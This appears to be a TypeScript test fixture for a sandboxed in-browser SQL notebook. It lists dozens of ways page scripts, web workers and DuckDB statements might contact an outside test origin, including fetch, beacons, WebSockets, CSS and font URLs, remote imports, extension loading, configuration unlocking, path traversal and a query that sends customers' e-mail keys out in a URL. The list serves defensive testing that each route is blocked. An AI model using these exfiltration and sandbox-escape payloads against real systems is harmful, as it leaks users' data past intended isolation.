/** Ways out of a page, a worker and the engine. Each is sent into the page as text: nothing outside its braces may be used. */

/** @param origin where to, without a slash at the end */
export type Attempt = (origin: string) => unknown;

/** From a document, with scripts of the page's own rights. `window.open`, links and `location` are no part: see seal.spec.ts. */
export const FROM_PAGE: Record<string, Attempt> = {
  fetch: (origin) => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
  'fetch that outlives the page': (origin) =>
    fetch(`${origin}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  'fetch with a body': (origin) =>
    fetch(`${origin}/post`, { method: 'POST', body: 'a@b.c', mode: 'no-cors' }),
  XMLHttpRequest: (origin) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/xhr`);
    request.send();
  },
  'synchronous XMLHttpRequest': (origin) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/sync`, false);
    request.send();
  },
  sendBeacon: (origin) => navigator.sendBeacon(`${origin}/beacon`, 'a@b.c'),
  WebSocket: (origin) => new WebSocket(`${origin.replace('http', 'ws')}/socket`),
  EventSource: (origin) => new EventSource(`${origin}/events`),
  image: (origin) => {
    new Image().src = `${origin}/image.png`;
  },
  'image of an inline SVG': (origin) => {
    const picture = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${origin}/svg.png"/></svg>`;
    document.body.insertAdjacentHTML('beforeend', picture);
  },
  video: (origin) =>
    document.body.insertAdjacentHTML('beforeend', `<video src="${origin}/v.mp4" autoplay></video>`),
  'url() in a style': (origin) => {
    document.body.style.background = `url(${origin}/background.png)`;
  },
  'url() in a style sheet': (origin) => {
    const style = `<style>body::after { content: url(${origin}/content.png) }</style>`;
    document.body.insertAdjacentHTML('beforeend', style);
  },
  '@import in a style sheet': (origin) =>
    document.body.insertAdjacentHTML('beforeend', `<style>@import url(${origin}/import.css);</style>`),
  'font of a style sheet': (origin) => {
    const face = `<style>@font-face { font-family: leak; src: url(${origin}/font.woff2) }</style>`;
    document.body.insertAdjacentHTML('beforeend', `${face}<p style="font-family: leak">text</p>`);
  },
  'FontFace.load': (origin) => new FontFace('leak', `url(${origin}/face.woff2)`).load(),
  'link to a style sheet': (origin) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${origin}/sheet.css">`),
  'link rel=prefetch': (origin) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${origin}/prefetch">`),
  'link rel=preload': (origin) =>
    document.head.insertAdjacentHTML(
      'beforeend',
      `<link rel="preload" as="image" href="${origin}/preload.png">`,
    ),
  'link rel=modulepreload': (origin) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="modulepreload" href="${origin}/module.js">`),
  'dynamic import': (origin) => import(/* @vite-ignore */ `${origin}/dynamic.js`),
  'script element': (origin) => {
    const script = document.createElement('script');
    script.src = `${origin}/script.js`;
    document.head.append(script);
  },
  iframe: (origin) =>
    document.body.insertAdjacentHTML('beforeend', `<iframe src="${origin}/frame"></iframe>`),
  object: (origin) =>
    document.body.insertAdjacentHTML('beforeend', `<object data="${origin}/object"></object>`),
  embed: (origin) => document.body.insertAdjacentHTML('beforeend', `<embed src="${origin}/embed">`),
  'form sent by script': (origin) => {
    const form = document.createElement('form');
    form.action = `${origin}/form`;
    document.body.append(form);
    form.submit();
  },
  'another base for relative addresses': (origin) => {
    document.head.insertAdjacentHTML('afterbegin', `<base href="${origin}/">`);
    return fetch('relative', { mode: 'no-cors' });
  },
};

/** From a worker. */
export const FROM_WORKER: Record<string, Attempt> = {
  fetch: (origin) => fetch(`${origin}/worker-fetch`, { mode: 'no-cors' }),
  XMLHttpRequest: (origin) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/worker-xhr`, false);
    request.send();
  },
  WebSocket: (origin) => new WebSocket(`${origin.replace('http', 'ws')}/worker-socket`),
  EventSource: (origin) => new EventSource(`${origin}/worker-events`),
  importScripts: (origin) =>
    (globalThis as unknown as { importScripts(url: string): void }).importScripts(
      `${origin}/worker-script.js`,
    ),
  'dynamic import': (origin) => import(/* @vite-ignore */ `${origin}/worker-import.js`),
  'FontFace.load': (origin) => new FontFace('leak', `url(${origin}/worker-font.woff2)`).load(),
  'a cache that fetches': async (origin) => (await caches.open('leak')).add(`${origin}/worker-cache`),
  'a worker of its own, with networking untouched': (origin) => {
    const script = `fetch('${origin}/nested', { mode: 'no-cors' }).catch(() => undefined)`;
    new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
  },
};

/** From SQL: a statement to be refused, in a notebook whose `customers` have e-mail addresses. */
export const FROM_SQL: Record<string, (origin: string) => string> = {
  'read_csv of a URL': (origin) => `from read_csv('${origin}/a.csv')`,
  'a URL as a table': (origin) => `from '${origin}/a.csv'`,
  'read_text of a URL': (origin) => `from read_text('${origin}/a.txt')`,
  'read_parquet of a URL': (origin) => `from read_parquet('${origin}/a.parquet')`,
  'read_json of a URL': (origin) => `from read_json('${origin}/a.json')`,
  'sniff_csv of a URL': (origin) => `from sniff_csv('${origin}/a.csv')`,
  'a URL made from the customers’ e-mail addresses': (origin) =>
    `set variable leak = (select string_agg(customer_key, ',') from customers);
     from read_csv('${origin}/?d=' || getvariable('leak'))`,
  'glob of a URL': (origin) => `from glob('${origin}/*')`,
  'read_csv under our folder’s name on another host': (origin) => `from read_csv('${origin}/imp/1.csv')`,
  'read_csv from S3': () => `from read_csv('s3://leak/a.csv')`,
  'read_csv from Hugging Face': () => `from read_csv('hf://datasets/leak/a.csv')`,
  'COPY to a URL': (origin) => `copy customers to '${origin}/a.csv'`,
  'COPY to S3': () => `copy customers to 's3://leak/a.csv'`,
  'COPY as Parquet': () => `copy customers to 'out/a.parquet' (format parquet)`,
  'EXPORT DATABASE to a URL': (origin) => `export database '${origin}/db'`,
  'ATTACH a URL': (origin) => `attach '${origin}/a.duckdb' as leak`,
  'ATTACH a file': () => `attach 'leak.duckdb' as leak`,
  'CREATE SECRET': () => `create secret leak (type s3, key_id 'a', secret 'b')`,
  'LOAD json': () => 'load json',
  'LOAD httpfs': () => 'load httpfs',
  'LOAD a URL': (origin) => `load '${origin}/leak.duckdb_extension.wasm'`,
  'LOAD after INSTALL, which WebAssembly passes over': (origin) => `install json from '${origin}'; load json`,
  'LOAD after FORCE INSTALL': () => 'force install httpfs; load httpfs',
  'SET custom_extension_repository': (origin) => `set custom_extension_repository = '${origin}'`,
  'SET autoload_known_extensions': () => 'set autoload_known_extensions = true',
  'SET autoinstall_known_extensions': () => 'set autoinstall_known_extensions = true',
  'SET allow_community_extensions': () => 'set allow_community_extensions = true',
  'SET enable_external_access': () => 'set enable_external_access = true',
  'SET allowed_directories': () => `set allowed_directories = ['http://']`,
  'SET memory_limit': () => `set memory_limit = '8GB'`,
  'SET lock_configuration': () => 'set lock_configuration = false',
  'RESET lock_configuration': () => 'reset lock_configuration',
  'AT TIME ZONE, which wants the ICU extension': () =>
    `select timestamp '2026-01-01 12:00:00' at time zone 'Asia/Shanghai' as a`,
  'date_trunc of a time with zone': () =>
    `select date_trunc('month', '2026-01-01 00:00:00+00'::timestamptz) as a`,
  current_date: () => 'select current_date as a',
  'a JSON cast': () => `select '{}'::json as a`,
  'a JSON function': () => `select json_extract('{"a":1}', '$.a') as a`,
  'a locale’s COLLATE': () => `select 'a' collate de as a`,
};

/** Statements that would find a file if one were left; they give no rows or are refused. */
export const NOTHING_LEFT_TO_READ: Record<string, string> = {
  'read_text of everything imported': `select filename from read_text('imp/*')`,
  'read_blob of the file imported last': `select filename from read_blob('imp/1.csv')`,
  'read_csv of the file imported last': `from read_csv('imp/1.csv', header = false)`,
  'glob of everything': `from glob('**')`,
  'glob of our folder': `from glob('imp/*')`,
  'the folder above ours': `from read_csv('imp/../a.csv')`,
  'results written before': `select filename from read_text('out/*')`,
};
